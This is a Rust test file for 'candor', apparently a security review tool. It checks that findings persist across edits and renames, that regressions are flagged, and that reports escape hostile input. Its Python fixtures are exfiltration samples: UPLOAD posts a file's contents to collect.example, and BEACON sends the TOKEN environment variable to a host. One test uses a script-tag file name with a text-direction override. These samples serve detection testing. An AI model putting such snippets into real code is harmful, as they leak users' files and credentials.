//! `candor diff` and `review --baseline`: findings are known again when lines move and files are renamed, what was fixed and is
//! back is told as such, and the most dangerous change comes first.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use candor::report::model::{Report, Status};
use serde_json::Value;
use tempfile::TempDir;

use super::intake_support::write;

const UPLOAD: &str =
    "import requests\n\ndef send(path):\n    requests.post('https://collect.example/in', data=open(path).read())\n";
const BEACON: &str = "import os\nimport socket\n\ndef beacon(host):\n    socket.create_connection((host, 80)).sendall(os.environ['TOKEN'].encode())\n";

/// Versions of a product, and packs of their reviews, in one folder.
struct House(TempDir);

impl House {
    fn new() -> Self {
        Self(tempfile::tempdir().expect("a scratch folder"))
    }

    fn version(&self, name: &str, files: &[(&str, &str)]) -> &Self {
        for (path, text) in files {
            write(&self.0.path().join(name), path, text.as_bytes());
        }
        self
    }

    fn candor(&self, args: &[&str]) -> (i32, String) {
        let mut command = Command::new(env!("CARGO_BIN_EXE_candor"));
        command.env_clear().env("HOME", self.0.path()).current_dir(self.0.path()).stdin(Stdio::null()).args(args);
        let output = command.output().expect("it runs");
        let err = String::from_utf8_lossy(&output.stderr);
        let code = output.status.code().expect("no signal");
        assert!(code < 2 || err.contains("help: "), "{args:?}: {err}");
        (code, if code < 2 { String::from_utf8(output.stdout).expect("UTF-8") } else { err.into_owned() })
    }

    /// Reviews a version, with the pack of another as its baseline.
    fn review(&self, name: &str, baseline: Option<&str>) -> Report {
        let output = format!("{name}.candor");
        let baseline = baseline.map(|baseline| format!("--baseline={baseline}.candor"));
        let args: Vec<&str> = ["review", name, "--output", &output, "--quiet"].into_iter().chain(baseline.as_deref()).collect();
        self.candor(&args);
        Report::from_json(&fs::read(self.path(&output).join("report.json")).expect("a report")).expect("a sound report")
    }

    fn diff(&self, old: &str, new: &str) -> Value {
        serde_json::from_str(&self.candor(&["diff", old, new, "--format=json", "--quiet"]).1).expect("JSON")
    }

    fn path(&self, name: &str) -> PathBuf {
        self.0.path().join(name)
    }
}

/// new, carried, regressed, fixed.
fn counts(diff: &Value) -> [u64; 4] {
    ["new", "carried", "regressed", "fixed"].map(|name| diff["findings"][name].as_u64().expect("a number"))
}

fn kinds(diff: &Value) -> Vec<&str> {
    diff["changes"].as_array().expect("a list").iter().map(|change| change["kind"].as_str().expect("text")).collect()
}

#[test]
fn findings_are_known_again() {
    let moved = format!("# a comment\n\n\nx = 1\n{UPLOAD}");
    let edited = UPLOAD.replace("open(path).read()", "open(path, 'rb').read()");
    let renamed_function = UPLOAD.replace("def send(", "def transmit(");
    let twice = format!("{UPLOAD}\n{}", UPLOAD.replace("collect", "second"));
    let twice_turned = format!("{}\n{UPLOAD}", UPLOAD.replace("collect", "second"));
    for (what, old, new) in [
        ("moved lines", &[("a/agent.py", UPLOAD)][..], &[("a/agent.py", moved.as_str())][..]),
        ("an edited line", &[("a/agent.py", UPLOAD)], &[("a/agent.py", &edited)]),
        ("another folder", &[("a/agent.py", UPLOAD)], &[("b/c/agent.py", UPLOAD)]),
        ("a renamed file", &[("agent.py", UPLOAD)], &[("client.py", UPLOAD)]),
        ("a renamed file with moved lines", &[("agent.py", UPLOAD)], &[("client.py", &moved)]),
        ("a renamed file with an edited line", &[("agent.py", UPLOAD)], &[("client.py", &edited)]),
        ("a renamed function", &[("agent.py", UPLOAD)], &[("agent.py", &renamed_function)]),
        ("two alike in another order", &[("agent.py", &twice)], &[("agent.py", &twice_turned)]),
    ] {
        let house = House::new();
        let diff = house.version("old", old).version("new", new).diff("old", "new");
        let [new, carried, regressed, fixed] = counts(&diff);
        assert!(new == 0 && regressed == 0 && fixed == 0 && carried > 0, "{what}: {diff:#}");
    }
}

#[test]
fn what_changed_is_told_by_falling_risk() {
    let house = House::new();
    house.version("old", &[("agent.py", "import json\nX = 'https://old.example'\n"), ("kept.py", UPLOAD), ("gone.py", BEACON)]);
    house.version(
        "new",
        &[
            ("agent.py", "import leftpad\n"),
            ("kept.py", UPLOAD),
            ("run.py", "import subprocess\nimport sys\nsubprocess.run(sys.argv[1])\n"),
        ],
    );
    write(&house.path("new"), "fresh.py", UPLOAD.replace("collect", "fresh").replace("send", "hand_over").as_bytes());
    let diff = house.diff("old", "new");
    let kinds = kinds(&diff);
    assert_eq!(kinds[0], "finding-new", "{diff:#}");
    for kind in
        ["finding-new", "finding-fixed", "endpoint-new", "endpoint-gone", "capability-new", "dependency-new", "dependency-gone"]
    {
        assert!(kinds.contains(&kind), "{kind}: {diff:#}");
    }
    let risks: Vec<u64> =
        diff["changes"].as_array().expect("a list").iter().map(|change| change["risk"].as_u64().expect("a number")).collect();
    assert!(risks.is_sorted_by(|a, b| a >= b), "{risks:?}");
    let (code, text) = house.candor(&["diff", "old", "new", "--quiet"]);
    assert_eq!(code, 1);
    assert!(text.contains("new finding F001") && text.contains("https://fresh.example/in"), "{text}");
    assert_eq!(house.candor(&["diff", "new", "new", "--quiet"]).0, 0, "the same is no worse");
}

#[test]
fn what_was_fixed_and_is_back_is_a_regression() {
    let house = House::new();
    house.version("1", &[("agent.py", UPLOAD), ("other.py", BEACON)]);
    house.version("2", &[("other.py", BEACON)]);
    house.version("3", &[("client/upload.py", UPLOAD), ("other.py", BEACON)]);
    assert!(house.review("1", None).history.is_none());
    let second = house.review("2", Some("1")).history.expect("a history");
    assert_eq!((second.counts.new, second.counts.fixed), (0, 1));
    let third = house.review("3", Some("2"));
    let history = third.history.clone().expect("a history");
    assert_eq!((history.counts.new, history.counts.regressed, history.counts.fixed), (0, 1, 0));
    assert!(history.fixed.is_empty());
    let back = history.standings.iter().find(|standing| standing.status == Status::Regressed).expect("it is back");
    assert_eq!(third.findings.iter().find(|finding| finding.id == back.id).expect("of this report").class, "file-upload");
    let diff = house.diff("2.candor", "3.candor");
    assert_eq!(kinds(&diff)[0], "finding-regressed");

    // The same baseline gives the same report, and the pack says which one it was.
    let bytes = fs::read(house.path("3.candor/report.json")).expect("a report");
    house.review("3", Some("2"));
    assert_eq!(fs::read(house.path("3.candor/report.json")).expect("a report"), bytes);
    let statement: Value = serde_json::from_slice(&fs::read(house.path("3.candor/statement.json")).expect("ours")).expect("JSON");
    assert_eq!(statement["predicate"]["reviewer"]["parameters"]["baseline"], Value::from(history.baseline));
    for (file, text) in [("report.html", "back again"), ("report.sarif.json", "\"baselineState\":\"unchanged\"")] {
        assert!(fs::read_to_string(house.path("3.candor").join(file)).expect("ours").contains(text), "{file}");
    }
}

#[test]
fn the_page_is_inert_and_escapes_what_a_submission_wrote() {
    let house = House::new();
    house.version("old", &[("a.py", "x = 1\n")]);
    let hostile = "<script>alert(1)</script>\u{202e}.py";
    house.version("new", &[(hostile, UPLOAD), ("b.py", "import requests\nrequests.get('https://x.example/<img src=x>')\n")]);
    let (_, page) = house.candor(&["diff", "old", "new", "--format=html", "--quiet"]);
    assert!(page.contains("default-src 'none'; style-src 'sha256-") && !page.contains("<script") && !page.contains('\u{202e}'));
    assert!(page.contains("&#60;script&#62;") || page.contains("&lt;script&gt;"), "{page}");
    let (_, text) = house.candor(&["diff", "old", "new", "--quiet"]);
    assert!(!text.contains('\u{202e}') && !text.contains('\u{1b}'));
}

#[test]
fn what_is_no_pack_and_no_submission_is_named() {
    let house = House::new();
    house.version("1", &[("agent.py", UPLOAD)]).review("1", None);
    let changed = house.path("changed.candor");
    copy(&house.path("1.candor"), &changed);
    let report = fs::read_to_string(changed.join("report.json")).expect("ours").replace("agent.py", "ageny.py");
    fs::write(changed.join("report.json"), report).expect("ours");
    for (args, why) in [
        (&["diff", "1.candor", "nowhere"][..], "cannot find nowhere"),
        (&["diff", "changed.candor", "1.candor"], "was changed"),
        (&["review", "1", "--baseline", "changed.candor", "--output", "o.candor"], "was changed"),
        (&["review", "1", "--baseline", "1", "--output", "o.candor"], "not read as a pack"),
    ] {
        let (code, said) = house.candor(args);
        assert!(code == 2 && said.contains(why), "{args:?}: {said}");
    }
}

fn copy(from: &Path, to: &Path) {
    fs::create_dir_all(to).expect("a folder");
    for entry in fs::read_dir(from).expect("a folder") {
        let path = entry.expect("an entry").path();
        let target = to.join(path.file_name().expect("a name"));
        match path.is_dir() {
            true => copy(&path, &target),
            false => assert!(fs::copy(&path, &target).is_ok(), "{}", path.display()),
        }
    }
}
